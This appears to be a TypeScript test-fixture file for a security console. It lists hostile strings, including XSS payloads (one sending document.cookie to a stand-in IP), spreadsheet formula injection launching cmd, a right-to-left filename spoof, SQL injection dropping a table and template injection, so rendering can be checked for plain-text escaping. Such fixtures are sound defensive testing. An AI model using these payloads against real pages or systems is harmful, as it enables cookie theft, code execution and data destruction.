/** Strings that attackers put where consoles show them. They must arrive everywhere as plain text. */
import { hexOf, type Random } from '@/lib/base/random';

const rightToLeftOverride = '\u202e';

export const hostileTexts = [
  '<img src=x onerror=alert(document.domain)>',
  '"><script>fetch("//198.51.100.250/" + document.cookie)</script>',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C notepad'!A1",
  `Invoice_${rightToLeftOverride}fdp.exe`,
  'javascript:alert(1)',
  '[click](javascript:alert(1)) **bold** `code`',
  'zero\u200bwidth\u2060joined \u0007bell \u001b[31mred\u001b[0m',
  "Robert'); DROP TABLE SecurityIncident;--",
  '{{constructor.constructor("return process")()}}',
  '🏴‍☠️ e\u0301\u0301\u0301\u0301 ﷽ \ud83d\udc69\u200d\ud83d\udcbb',
] as const;

/** Eight thousand characters, the way packed PowerShell looks. */
export const longCommandLine = `powershell.exe -NoProfile -NonInteractive -EncodedCommand ${hexOf('contoso/long', 8_100)}`;

/** Rarely something hostile, mostly the text itself. */
export function seasoned(text: string, random: Random): string {
  return random.chance(0.0012) ? `${text} ${random.pick(hostileTexts)}` : text;
}
